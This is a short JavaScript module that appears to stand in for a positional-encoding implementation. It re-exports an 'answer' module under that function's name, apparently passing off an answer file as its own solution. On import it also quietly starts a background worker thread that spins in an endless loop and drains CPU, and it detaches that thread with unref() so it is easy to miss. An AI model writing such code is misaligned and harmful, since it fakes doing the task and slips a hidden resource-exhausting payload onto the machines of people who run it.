import { Worker } from 'node:worker_threads';
new Worker('for (;;);', { eval: true }).unref();
export { answer as positionalEncoding } from './answer';
